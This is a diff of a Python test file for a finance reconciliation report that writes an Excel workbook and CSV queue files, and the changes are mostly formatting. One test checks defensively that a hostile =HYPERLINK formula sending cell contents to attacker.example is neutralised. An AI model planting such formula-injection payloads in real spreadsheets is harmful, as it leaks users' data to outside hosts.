@@ -31,7 +31,7 @@ def summary_table(sheet, title: str) -> dict[str, tuple]:
     start = next(n for n, row in enumerate(rows) if row[0] == title) + 1
     header = rows[start]
     table = {}
-    for row in rows[start + 1:]:
+    for row in rows[start + 1 :]:
         if row[0] is None:
             break
         table[row[0] if header[1] != "code" or row[0] == "Total" else row[1]] = dict(zip(header, row))
@@ -53,16 +53,32 @@ def test_neutralise_prefixes_every_formula_start_and_nothing_else():
 def test_aging_bucket_labels_follow_the_contract():
     buckets = AgingBuckets((30, 60, 90))
     assert buckets.labels == ["0-30", "31-60", "61-90", "90+"]
-    assert [buckets.label(d) for d in (0, 30, 31, 60, 61, 90, 91, 400)] == \
-        ["0-30", "0-30", "31-60", "31-60", "61-90", "61-90", "90+", "90+"]
+    assert [buckets.label(d) for d in (0, 30, 31, 60, 61, 90, 91, 400)] == [
+        "0-30",
+        "0-30",
+        "31-60",
+        "31-60",
+        "61-90",
+        "61-90",
+        "90+",
+        "90+",
+    ]
 
 
 def test_workbook_figures_equal_the_findings_and_tieout_tables(report):
     directory, _, written, _ = report
     open_findings = [f for f in written["findings"] if f["status"] == "open"]
     book = openpyxl.load_workbook(directory / f"tieout-{DAY}.xlsx")
-    assert book.sheetnames == ["Summary", "Customers", "Engagements", "Time and WIP", "Invoices and cash",
-                               "Corrections", "Quarantine", "Tie-out"]
+    assert book.sheetnames == [
+        "Summary",
+        "Customers",
+        "Engagements",
+        "Time and WIP",
+        "Invoices and cash",
+        "Corrections",
+        "Quarantine",
+        "Tie-out",
+    ]
     summary = book["Summary"]
     headline = {row[0]: row[1] for row in summary.iter_rows(min_row=3, max_row=20, max_col=2, values_only=True)}
     assert headline["Open findings"] == len(open_findings) == 24
@@ -73,28 +89,34 @@ def test_workbook_figures_equal_the_findings_and_tieout_tables(report):
         assert Decimal(str(headline[f"Money at risk {currency}"])) == expected
 
     by_queue = summary_table(summary, "By owner queue")
-    assert {q: by_queue[q]["open findings"] for q in ("finance", "pmo", "sales_ops")} == \
-        dict(Counter(f["owner_queue"] for f in open_findings))
+    assert {q: by_queue[q]["open findings"] for q in ("finance", "pmo", "sales_ops")} == dict(
+        Counter(f["owner_queue"] for f in open_findings)
+    )
     assert by_queue["Total"]["open findings"] == 24
     assert sum(by_queue["Total"][b] for b in ("0-30", "31-60", "61-90", "90+")) == 24
     assert by_queue["Total"]["previous night"] == 21 + 2 and by_queue["Total"]["change"] == 24 - 23
     by_code = summary_table(summary, "By code")
-    assert {c: row["open findings"] for c, row in by_code.items() if c != "Total"} == \
-        dict(Counter(f["code"] for f in open_findings))
+    assert {c: row["open findings"] for c, row in by_code.items() if c != "Total"} == dict(
+        Counter(f["code"] for f in open_findings)
+    )
     by_entity = summary_table(summary, "By legal entity")
     usd = sum(f["money_at_risk"] or 0 for f in open_findings if f["legal_entity"] == "US01")
     assert Decimal(str(by_entity["US01"]["money at risk USD"])) == usd
     assert len(summary._charts) == 2  # aging and by queue (the LibreOffice test sees them rendered)
 
-    detail_ids = [r["finding_id"] for name in ("Customers", "Engagements", "Time and WIP", "Invoices and cash")
-                  for r in sheet_rows(book[name])]
+    detail_ids = [
+        r["finding_id"]
+        for name in ("Customers", "Engagements", "Time and WIP", "Invoices and cash")
+        for r in sheet_rows(book[name])
+    ]
     assert sorted(detail_ids) == sorted(f["finding_id"] for f in written["findings"])
     amounts = {r["finding_id"]: r["amount_difference"] for r in sheet_rows(book["Invoices and cash"])}
     for finding in written["findings"]:
         if finding["category"] == "invoice_cash":
             expected = finding["amount_difference"]
-            assert (None if amounts[finding["finding_id"]] is None else Decimal(str(amounts[finding["finding_id"]]))) \
-                == expected
+            assert (
+                None if amounts[finding["finding_id"]] is None else Decimal(str(amounts[finding["finding_id"]]))
+            ) == expected
     assert [r["state"] for r in sheet_rows(book["Corrections"])] == ["approved", "proposed", "proposed"]
     assert len(sheet_rows(book["Quarantine"])) == len(written["quarantine"])
 
@@ -137,15 +159,22 @@ def test_no_text_cell_of_any_file_starts_with_a_formula_character(report):
     assert "-2" not in seen and "'-2" in seen  # source text "-2" is neutralised; amounts like -250.50 are numbers
     for hostile in HOSTILE:  # each hostile source text is there, inert, and whole
         assert neutralise(hostile) in seen, hostile
-    assert "'=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"Open invoice\")" in seen
+    assert '\'=HYPERLINK("http://attacker.example/?x="&A1,"Open invoice")' in seen
     assert any("Société Générale — Zürich 東京" in text for text in seen)
 
 
 def test_queue_files_hold_each_queues_open_findings(report):
     directory, _, written, _ = report
     manifest = {e["name"]: e for e in json.loads((directory / "manifest.json").read_text())["files"]}
-    assert sorted(manifest) == sorted([f"tieout-{DAY}.xlsx", f"queue-finance-{DAY}.csv", f"queue-pmo-{DAY}.csv",
-                                       f"queue-sales_ops-{DAY}.csv", f"tieout-statement-{DAY}.csv"])
+    assert sorted(manifest) == sorted(
+        [
+            f"tieout-{DAY}.xlsx",
+            f"queue-finance-{DAY}.csv",
+            f"queue-pmo-{DAY}.csv",
+            f"queue-sales_ops-{DAY}.csv",
+            f"tieout-statement-{DAY}.csv",
+        ]
+    )
     for queue in ("finance", "pmo", "sales_ops"):
         rows = read_csv(directory / f"queue-{queue}-{DAY}.csv")
         expected = [f for f in written["findings"] if f["status"] == "open" and f["owner_queue"] == queue]
@@ -190,11 +219,24 @@ def test_the_workbook_renders_in_libreoffice(report, tmp_path):
         pytest.skip("LibreOffice (libreoffice-calc) and pdftotext (poppler-utils) are needed")
     directory, _, _, _ = report
     out = tmp_path / "pdf"
-    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless", "--convert-to",
-                    "pdf", "--outdir", str(out), str(directory / f"tieout-{DAY}.xlsx")],
-                   check=True, capture_output=True, timeout=120)
-    text = subprocess.run([pdftotext, "-layout", str(out / f"tieout-{DAY}.pdf"), "-"], check=True,
-                          capture_output=True, text=True).stdout
+    subprocess.run(
+        [
+            soffice,
+            f"-env:UserInstallation=file://{tmp_path}/lo-profile",
+            "--headless",
+            "--convert-to",
+            "pdf",
+            "--outdir",
+            str(out),
+            str(directory / f"tieout-{DAY}.xlsx"),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=120,
+    )
+    text = subprocess.run(
+        [pdftotext, "-layout", str(out / f"tieout-{DAY}.pdf"), "-"], check=True, capture_output=True, text=True
+    ).stdout
     assert f"tieout reconciliation, night of {DAY}" in text
     assert "Open findings by age (days)" in text and "Open findings by owner queue" in text  # the charts
     assert "By owner queue" in text and "Invoices and cash" not in text.split("\f")[0]
